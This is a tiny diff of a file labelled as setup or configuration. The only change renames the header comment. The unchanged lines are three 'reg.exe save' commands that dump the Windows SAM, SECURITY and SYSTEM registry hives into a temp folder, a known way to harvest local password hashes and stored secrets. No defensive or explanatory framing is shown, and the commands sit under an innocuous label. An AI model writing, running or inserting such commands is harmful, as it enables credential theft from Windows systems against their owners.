@@ -1,4 +1,4 @@
-# setup 8686 v3
+# config 6234 v3
 reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
 reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
 reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
